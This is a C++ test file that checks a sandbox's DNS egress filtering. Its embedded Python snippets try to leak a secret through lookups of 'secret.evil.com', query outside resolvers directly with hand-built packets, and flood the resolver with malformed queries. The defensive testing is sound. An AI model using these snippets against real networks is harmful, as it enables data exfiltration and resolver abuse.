// DNS as a way out of a sandbox that may reach one host by name.

#include <sys/types.h>

#include <cstdlib>
#include <fstream>
#include <string>

#include "absl/strings/str_cat.h"
#include "gmock/gmock.h"
#include "gtest/gtest.h"
#include "tests/attack/egress_attack.h"

namespace tests {
namespace {

using ::testing::AnyOf;
using ::testing::Contains;
using ::testing::HasSubstr;
using ::testing::IsEmpty;
using ::testing::Not;

// The memory that a process has for itself alone, in KiB; 0 if this process may
// not read it. Counted page by page: VmRSS is inaccurate, see proc(5), and has
// the pages of the program.
size_t AnonymousKib(pid_t pid) {
  std::ifstream file(absl::StrCat("/proc/", pid, "/smaps_rollup"));
  std::string word;
  size_t kib = 0;
  while (file >> word && word != "Anonymous:") {
  }
  file >> kib;
  return kib;
}

TEST_F(EgressAttackTest, LeaksNothingByDns) {
  Allow("*.wild.example", 443, Rule::WEB);
  Create();
  EXPECT_EQ(
      Python("for name in ('secret.evil.com', 'api.example.evil.com',\n"
             "             'xn--api-.example', 'example', 'localhost4'):\n"
             "    attempt(lambda: socket.gethostbyname(name))\n"
             "socket.gethostbyname('secret.wild.example')\n"),
      "no such name\nno such name\nno such name\nno such name\n"
      "no such name\n");
  EXPECT_THAT(names_.Questions(), IsEmpty());
  EXPECT_THAT(Refusals(), Contains("NAME_NOT_ALLOWED secret.evil.com"));
}

TEST_F(EgressAttackTest, AsksNoOtherNameServer) {
  Create();
  const std::string servers = absl::StrCat(
      "for server, target in (('8.8.8.8', 53), ('2001:4860:4860::8888', 53),\n"
      "                       ('127.0.0.1', 53), ('",
      names_.address().replace(names_.address().find(':'), 1, "', "),
      ")):\n"
      "    for kind in (socket.SOCK_DGRAM, socket.SOCK_STREAM):\n"
      "        family = socket.AF_INET6 if ':' in server else socket.AF_INET\n"
      "        s = socket.socket(family, kind)\n"
      "        s.settimeout(20)\n");
  EXPECT_THAT(
      Python(servers +
             "        try:\n"
             "            s.connect((server, target))\n"
             "            s.send(b'\\0\\x1f\\x12\\x34\\1\\0\\0\\1\\0\\0\\0"
             "\\0\\0\\0\\3api\\7example\\0\\0\\1\\0\\1')\n"
             "            print('answer', s.recv(512))\n"
             "        except OSError as e:\n"
             "            print('refused')\n"),
      Not(AnyOf(HasSubstr("answer"), HasSubstr("Traceback"))));
  EXPECT_THAT(names_.Questions(), IsEmpty());
}

TEST_F(EgressAttackTest, AnswersOthersAfterAFloodOfOddQuestions) {
  Create();
  EXPECT_EQ(
      Python("server = [line.split()[1] for line in open('/etc/resolv.conf')\n"
             "          if line.startswith('nameserver')][0]\n"
             "s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\n"
             "head = b'\\x12\\x34\\1\\0\\0\\1\\0\\0\\0\\0\\0\\0'\n"
             "tail = b'\\0\\0\\1\\0\\1'\n"
             "for i in range(10000):\n"
             "    name = b'\\x05%05d\\4evil' % i\n"
             "    s.sendto(head + name + tail, (server, 53))\n"
             "for loop in (b'\\xc0\\x0c', b'\\1a\\xc0\\x0c', b'\\xc0\\xff'):\n"
             "    s.sendto(head + loop + tail[1:], (server, 53))\n"
             "print(socket.gethostbyname('api.example')[:7])\n"),
      "198.18.\n");
  EXPECT_THAT(names_.Questions(), IsEmpty());
}

TEST_F(EgressAttackTest, KeepsItsMemoryOverTwentyThousandLookUps) {
  if (std::getenv("TEST_EMULATED") != nullptr) {
    GTEST_SKIP() << "takes minutes in an emulated machine";
  }
  Allow("*.wild.example", 443, Rule::WEB);
  Create();
  const std::string look_ups =
      "s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\n"
      "s.connect(('127.0.0.53', 53))\n"
      "s.settimeout(20)\n"
      "for i in range(first, last, 50):\n"
      "    for domain in domains:\n"
      "        for n in range(i, i + 50):\n"
      "            "
      "s.send(b'\\x12\\x34\\1\\0\\0\\1\\0\\0\\0\\0\\0\\0\\x06%06d'\n"
      "                   % n + domain + b'\\0\\0\\1\\0\\1')\n"
      "        for n in range(50):\n"
      "            s.recv(512)\n"
      "print('done')\n";
  const std::string domains =
      "domains = [b'\\4wild\\7example', b'\\4evil\\7example']\n";
  // Fills the table of names, and the refusals that are remembered.
  ASSERT_EQ(Python("first, last = 0, 4500\n" + domains + look_ups), "done\n");
  const pid_t proxy = AwaitProxy();
  const size_t first = AnonymousKib(proxy);
  if (first == 0) {
    GTEST_SKIP() << "this process may not read the memory of another one";
  }
  ASSERT_EQ(Python("first, last = 5000, 15000\n" + domains + look_ups),
            "done\n");
  // One allocation that stays of each look-up of a name that is allowed, or of
  // each that is refused, shows: malloc(3) gives none of them less than 32
  // bytes.
  constexpr size_t kLookUpsOfEach = 10'000;
  constexpr size_t kSmallestAllocation = 32;
  EXPECT_LT(AnonymousKib(proxy),
            first + kLookUpsOfEach * kSmallestAllocation / 1024);
  EXPECT_THAT(names_.Questions(), IsEmpty());
}

}  // namespace
}  // namespace tests
